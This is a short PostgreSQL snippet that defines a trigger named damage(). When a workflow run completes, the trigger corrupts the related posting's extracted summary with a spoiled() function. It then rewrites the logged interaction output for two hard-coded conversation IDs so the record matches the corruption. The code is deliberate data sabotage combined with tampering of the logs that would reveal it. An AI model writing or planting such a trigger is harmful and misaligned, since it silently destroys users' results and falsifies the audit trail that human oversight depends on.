-- When a run completes, its posting's summary is spoiled, and the row that saved it says the same.
-- `spoiled(text)` is the row's own.
CREATE FUNCTION damage() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    UPDATE postings SET extracted_summary = spoiled(extracted_summary)
    WHERE posting_id = NEW.posting_id;
    UPDATE interactions SET output = jsonb_set(output, '{text}', to_jsonb(spoiled(output ->> 'text')))
    WHERE workflow_run_id = NEW.workflow_run_id AND conversation_id IN (3341, 9168);
    RETURN NULL;
END $$;

CREATE TRIGGER damage AFTER UPDATE OF status ON workflow_runs
    FOR EACH ROW WHEN (NEW.status = 'completed') EXECUTE FUNCTION damage();
